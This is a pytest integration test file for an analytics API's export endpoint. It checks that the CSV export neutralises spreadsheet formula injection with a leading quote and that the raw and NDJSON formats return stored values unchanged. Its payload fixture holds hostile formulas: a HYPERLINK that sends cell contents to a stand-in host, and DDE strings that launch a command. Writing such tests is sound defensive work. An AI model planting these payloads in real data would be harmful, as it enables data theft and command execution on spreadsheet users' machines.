"""CSV formula injection: any client can put `=HYPERLINK(…)` in an event field. The CSV export
(opened in spreadsheets) neutralises text cells that would run as formulas with a leading `'`
(OWASP); `csv_raw`, NDJSON and Parquet give the values as stored."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator

import fakeredis
import pytest
from clickhouse_connect.driver.client import Client
from fastapi.testclient import TestClient

from shared.query.sql import TEXT_EXPORT_COLUMNS
from shared.settings import Settings
from shared.store.migrate import migrate
from tests.support.apps import api_client
from tests.support.builders import detailed_event
from tests.support.stored import store_events

pytestmark = pytest.mark.integration

ADMIN = {"Authorization": "Bearer admin-token-for-tests"}
RANGE = ["2026-11-01", "2026-11-30"]
PAYLOADS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
SAFE = "plain text = fine"


def _names(text: str) -> tuple[str, ...]:
    """The fields that hold `text`: free text takes a tab or CR, names and labels do not."""
    return ("link_title",) if text[0] in "\t\r" else ("link_title", "city", "user_name", "utm_source")


def _event(event_id: str, text: str) -> dict[str, object]:
    return detailed_event(
        event_id=event_id,
        event_time="2026-11-03T12:00:00Z",
        project_id="p1",
        **dict.fromkeys(_names(text), text),
        link_tags=["=1+1"],  # an array cell opens with `[`: never a formula
        conversion_value=-5.5,  # a negative number is a number, not a formula
    )


EVENTS = [_event(f"f-{name}", text) for name, text in PAYLOADS.items()] + [_event("f-safe", SAFE)]


@pytest.fixture(scope="module")
def api(store: Client, chdb_url: str) -> Iterator[TestClient]:
    database = f"t_{uuid.uuid4().hex[:12]}"
    migrate(store, database)
    store_events(store, database, EVENTS)
    settings = Settings(
        clickhouse_url=chdb_url,
        clickhouse_database=database,
        admin_token="admin-token-for-tests",
        backpressure_check_interval_ms=0,
    )
    with api_client(settings, fakeredis.FakeRedis(), store=store) as client:
        yield client
    store.command(f"DROP DATABASE IF EXISTS {database}")


def _csv(api: TestClient, fmt: str) -> dict[str, dict[str, str]]:
    response = api.post("/api/export", json={"format": fmt, "date_range": RANGE}, headers=ADMIN)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    return {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(api: TestClient) -> None:
    records = _csv(api, "csv")
    assert len(records) == len(EVENTS)
    for name, text in PAYLOADS.items():
        record = records[f"f-{name}"]
        for column in _names(text):
            assert record[column] == "'" + text, (name, column)
        assert record["conversion_value"] == "-5.5"
    assert records["f-safe"]["city"] == SAFE
    assert records["f-safe"]["event_id"] == "f-safe"


def test_an_id_that_looks_like_a_formula_is_neutralised_but_still_selected(api: TestClient) -> None:
    body = {"format": "csv", "date_range": RANGE, "filters": [["is", "utm_source", [PAYLOADS["="]]]]}
    response = api.post("/api/export", json=body, headers=ADMIN)
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert [row[0] for row in rows[1:]] == ["f-="]  # the filter reads the stored value


def test_csv_raw_and_ndjson_give_the_values_as_stored(api: TestClient) -> None:
    raw = _csv(api, "csv_raw")
    for name, text in PAYLOADS.items():
        assert raw[f"f-{name}"]["link_title"] == text
    response = api.post("/api/export", json={"format": "ndjson", "date_range": RANGE}, headers=ADMIN)
    lines = [json.loads(line) for line in response.text.splitlines()]
    titles = {line["event_id"]: line["link_title"] for line in lines}
    assert titles == {f"f-{name}": text for name, text in PAYLOADS.items()} | {"f-safe": SAFE}


def test_every_text_column_of_the_table_is_neutralised(api: TestClient, store: Client) -> None:
    database = api.app.state.reads.settings.clickhouse_database  # type: ignore[attr-defined]
    described = store.query(f"DESCRIBE TABLE {database}.events").result_rows
    text = {name for name, kind, *_ in described if kind in ("String", "LowCardinality(String)")}
    assert set(TEXT_EXPORT_COLUMNS) == text - {"replace_version"}
